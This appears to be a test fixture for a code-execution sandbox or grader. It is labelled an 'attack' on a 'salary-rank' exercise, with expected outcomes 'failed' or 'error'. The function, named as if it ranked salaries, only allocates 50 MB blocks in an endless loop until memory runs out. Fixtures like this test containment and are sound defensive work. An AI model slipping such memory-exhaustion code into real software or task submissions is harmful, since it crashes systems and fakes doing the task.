# /// attack
# exercise = "salary-rank"
# trick = "it takes memory until there is none"
# outcome = ["failed", "error"]
# ///

async def salary_rank_by_department(session):
    held = []
    while True:
        held.append(b"x" * 50_000_000)
